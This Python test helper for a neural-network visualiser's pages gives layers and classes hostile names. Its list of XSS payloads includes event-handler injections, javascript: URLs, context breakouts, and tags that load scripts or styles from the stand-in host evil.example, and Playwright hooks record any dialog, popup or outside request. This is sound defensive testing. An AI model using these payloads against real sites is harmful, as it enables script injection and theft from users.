"""What a hostile file may call things, and a browser that notices when any of it does more than be read.

Every home of the page (the server's, the one file, the notebook's) is given these as names, and must show them as text.
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

from pellucid import Network
from pellucid.layers import Conv2d, Flatten, Linear, ReLU

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page

LONGEST_NAME = 200  # characters of a layer's name

PAYLOADS = (
    # elements that run or fetch something
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=http://evil.example/x.png>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<dialog open><img src=x onerror=alert(1)></dialog>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    # ways out of where text may have been put
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "<!--",
    "-->",
    "<![CDATA[",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' autofocus onfocus=alert(1) x='",
    "`${alert(1)}`",
    '";alert(1);//',
    "';alert(1);//",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\'-alert(1)//",
    "{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&amp;&nbsp;&#0;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    # names of what the page itself is made of
    "__proto__",
    "constructor",
    "toString",
)

# What no layer may be called, but other strings of a file may hold.
UNPRINTABLE = (
    "line\u2028separator",
    "paragraph\u2029separator",
    "null\0byte",
    "\u202eedoc",
    "\ufeff<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "half a pair \ud83d",
    "a\r\nb\tc",
)

# Runs before anything of the page: whatever happens that should not is written down where the test reads it.
NOTICE = """
window.noticed = [];
for (const name of ["alert", "confirm", "prompt", "open"]) {
  window[name] = (...told) => { window.noticed.push(`${name} ${told}`); return null; };
}
document.addEventListener("securitypolicyviolation", (event) => {
  window.noticed.push(`policy ${event.violatedDirective} ${event.blockedURI}`);
});
"""


def hostile(names: Sequence[str]) -> Network:
    """Return a network that is called by these names wherever they are allowed: layers, classes, and itself.

    Args:
        names: different from each other; layers get those that are printable and without square brackets.
    """
    called = [name for name in names if name.isprintable() and not set(name) & set("[]")]
    layers = [(name, Conv2d(1, 1) if number == 0 else ReLU()) for number, name in enumerate(called)]
    classes = [*names, "none"]
    return Network((1, 2, 2), [*layers, Flatten(), Linear(len(classes))], classes=classes, name=names[0], seed=0)


def watch(page: Page) -> list[str]:
    """Have a page, which is not open yet, tell of what should not happen; gives the list that fills up with it.

    What is noticed inside the page is added by `noticed`.
    """
    wrong: list[str] = []

    def refuse(dialog: Dialog) -> None:
        wrong.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.add_init_script(NOTICE)
    page.on("dialog", refuse)
    page.on("pageerror", lambda error: wrong.append(f"error {error}"))
    page.on("console", lambda message: wrong.append(message.text) if message.type in ("error", "warning") else None)
    page.on("popup", lambda other: wrong.append(f"popup {other.url}"))
    page.on(
        "request", lambda request: wrong.append(request.url) if "evil.example" in urlsplit(request.url).netloc else None
    )
    return wrong


def noticed(page: Page) -> list[str]:
    """Return what was noticed inside a page, in all of its frames."""
    return [told for frame in page.frames for told in frame.evaluate("() => window.noticed ?? []")]
